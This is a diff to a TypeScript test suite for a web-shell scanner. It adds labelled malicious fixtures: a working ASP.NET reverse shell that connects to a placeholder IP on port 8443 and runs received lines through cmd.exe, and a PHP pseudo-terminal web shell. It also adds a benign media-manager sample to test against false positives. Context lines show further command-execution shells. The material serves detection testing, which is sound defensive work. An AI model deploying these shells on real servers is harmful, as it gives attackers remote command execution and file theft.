@@ -53,6 +53,36 @@ implode('', $parts)($_GET['q']);`],
   ['a JScript page running WScript.Shell\'s Exec of Request.Params and writing its output', 'mamori_asp_wscript_shell', 'malicious', '/www/c.aspx', `<script language="JScript" runat="server">
 function Page_Load() { var sh = new ActiveXObject("WScript.Shell"); Response.Write(sh.Exec("cmd /c " + Request.Params["q"]).StdOut.ReadAll()); }
 </script>`],
+  // (set W, collected from a earlier collector's leads after U and V: its two misses)
+  ['an ASP.NET reverse shell running each line the socket sends as cmd.exe /c + line and writing the output back', 'mamori_aspx_socket_shell', 'malicious', '/www/r.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
+    var buf = new byte[4096]; int n;
+    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
+      var line = Encoding.UTF8.GetString(buf, 0, n);
+      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line;
+      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
+      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
+      ns.Write(res, 0, res.Length);
+    }
+  }
+}
+</script>`],
+  ['a PHP page answering ls, cd, rm, mkdir, touch and download sent in a form with file operations of its own', 'mamori_php_pseudo_terminal', 'malicious', '/www/t.php', `<?php
+session_start();
+$words = explode(' ', trim($_POST['line'] ?? ''));
+$verb = array_shift($words); $arg = implode(' ', $words);
+$cwd = $_SESSION['cwd'] ?? getcwd();
+switch ($verb) {
+  case 'ls': echo implode("\n", scandir($cwd)); break;
+  case 'cd': if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); break;
+  case 'rm': unlink("$cwd/$arg"); break;
+  case 'mkdir': mkdir("$cwd/$arg"); break;
+  case 'touch': touch("$cwd/$arg"); break;
+  case 'download': header('Content-Disposition: attachment'); readfile("$cwd/$arg"); exit;
+}`],
 ];
 
 // [what, path, the file]: the same shapes, not shells.
@@ -508,6 +538,18 @@ rule Laudanum_ASP_Shell {
 `],
 ];
 
+const MEDIA: [string, string, string] = ['a media manager endpoint dispatching list, upload, delete, rename, mkdir and download actions', '/www/admin/media.php', `<?php
+require __DIR__ . '/auth.php';
+$dir = __DIR__ . '/media';
+switch ($_POST['action'] ?? '') {
+  case 'list': echo json_encode(array_values(array_diff(scandir($dir), ['.', '..']))); break;
+  case 'upload': move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . bin2hex(random_bytes(8)) . '.jpg'); break;
+  case 'delete': unlink($dir . '/' . basename($_POST['name'])); break;
+  case 'rename': rename($dir . '/' . basename($_POST['from']), $dir . '/' . basename($_POST['to'])); break;
+  case 'mkdir': mkdir($dir . '/' . basename($_POST['name'])); break;
+  case 'download': readfile($dir . '/' . basename($_POST['name'])); break;
+}`];
+
 describe('scan: held-out set U (session 29), its misses, samples of our own', () => {
   for (const [name, rule, verdict, path, src] of FLAGGED) {
     it(`${verdict}: ${name}`, () => {
@@ -535,10 +577,16 @@ describe('scan: held-out set U (session 29), its misses, samples of our own', ()
       assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
     });
   }
+  it('a media manager dispatching list, upload, delete, rename, mkdir and download is not a pseudo-terminal (a tiny uploader at most, suspicious)', () => {
+    const [, path, src] = MEDIA;
+    const r = scan(src, path);
+    assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
+    assert.ok(!r.findings.some((f) => f.rule === 'mamori_php_pseudo_terminal'), JSON.stringify(r.findings));
+  });
   it('ran every case', () => {
     assert.equal(RED_TEAM.length, 21);
     assert.equal(RED_TEAM_BENIGN.length, 12);
-    assert.equal(FLAGGED.length, 9);
+    assert.equal(FLAGGED.length, 11);
     assert.equal(BENIGN.length, 6);
   });
 });
